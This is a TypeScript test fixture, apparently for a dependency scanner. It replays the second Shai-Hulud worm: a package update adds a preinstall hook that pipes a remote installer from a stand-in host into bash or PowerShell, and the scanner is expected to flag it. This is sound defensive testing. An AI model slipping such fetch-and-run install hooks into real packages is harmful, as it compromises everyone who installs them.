import type { Replay } from '../replay.js'

const line = '"version": "1.0.1",'
const finding = (rule: string, severity: 'critical' | 'high') =>
  ({ rule, severity, package: 'worm-carrier', file: 'package-lock.json', line }) as const

const setup = [
  "const { execSync } = require('child_process')",
  'const windows = \'powershell -c "irm https://bun.example/install.ps1|iex"\'',
  "execSync(process.platform === 'win32' ? windows : 'curl -fsSL https://bun.example/install | bash')",
  '',
].join('\n')

export const replay: Replay = {
  description:
    'The second Shai-Hulud worm: hundreds of packages ran a script before installation that fetched another runtime with a shell and ' +
    'had that run a bundle, out of sight of whoever watches Node.',
  date: '2025-11-24',
  packages: {
    'worm-carrier': {
      '1.0.0': { files: { 'index.js': 'module.exports = 1\n' } },
      '1.0.1': {
        manifest: { scripts: { preinstall: 'node setup_bun.js' } },
        files: { 'index.js': 'module.exports = 1\n', 'setup_bun.js': setup },
      },
    },
  },
  base: { manifest: { dependencies: { 'worm-carrier': '^1.0.0' } }, locked: { 'worm-carrier': '1.0.0' } },
  head: { manifest: { dependencies: { 'worm-carrier': '^1.0.0' } }, locked: { 'worm-carrier': '1.0.1' } },
  expected: {
    verdict: 'flagged',
    findings: [finding('install-script-dangerous', 'critical'), finding('install-script-added', 'high')],
  },
}
